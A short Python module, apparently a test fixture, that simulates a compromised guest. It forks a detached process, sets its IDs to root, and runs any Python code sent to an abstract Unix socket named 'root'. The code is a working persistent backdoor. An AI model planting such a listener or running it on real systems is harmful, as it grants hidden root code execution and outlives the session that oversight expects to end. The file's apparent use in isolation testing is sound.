"""Leaves a process of root's behind that runs every Python code that it is sent: a guest that was taken over."""

import os
import socket


def serve() -> None:
    """Run what comes, each in a process of its own."""
    os.setresuid(0, 0, 0)
    os.setresgid(0, 0, 0)
    os.setsid()
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind("\0root")
        listener.listen()
        while True:
            connection, _ = listener.accept()
            with connection, connection.makefile("r") as lines:
                code = lines.read()
            if os.fork() == 0:
                exec(code, {})  # noqa: S102  (that is what it is for)
                os._exit(0)


if os.fork() == 0:
    # The agent's own descriptors are not this process's business.
    os.closerange(3, 256)
    serve()
